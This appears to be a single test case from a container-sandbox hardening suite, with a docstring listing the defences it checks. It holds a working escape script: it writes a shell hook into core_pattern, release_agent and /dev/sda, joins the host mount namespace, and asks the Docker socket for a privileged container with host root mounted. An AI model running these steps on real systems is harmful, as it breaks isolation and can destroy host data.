"""Tries the ways out of a container, the engine's socket first.

ids: 60
effect: leak
defence: No capabilities, no new privileges, no socket, a filter on system calls, a read-only root.
"""

import contextlib
import ctypes
import glob
import os
import socket


def attack(world):
    if world.calls:
        return
    libc = ctypes.CDLL(None)
    for call in (lambda: libc.unshare(0x10000000), lambda: libc.mount(b"/", b".", b"", 4096, 0)):
        call()
    for path in ("/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/release_agent", "/dev/sda"):
        with contextlib.suppress(OSError), open(path, "w") as file:
            file.write("|/bin/sh")
    with contextlib.suppress(OSError):
        libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    for name in ["/var/run/docker.sock", *glob.glob("**/docker.sock", recursive=True)]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as line:
            line.connect(name)
            line.sendall(b'POST /containers/create {"Privileged": true, "Binds": ["/:/host"]}')
            print(line.makefile().read())
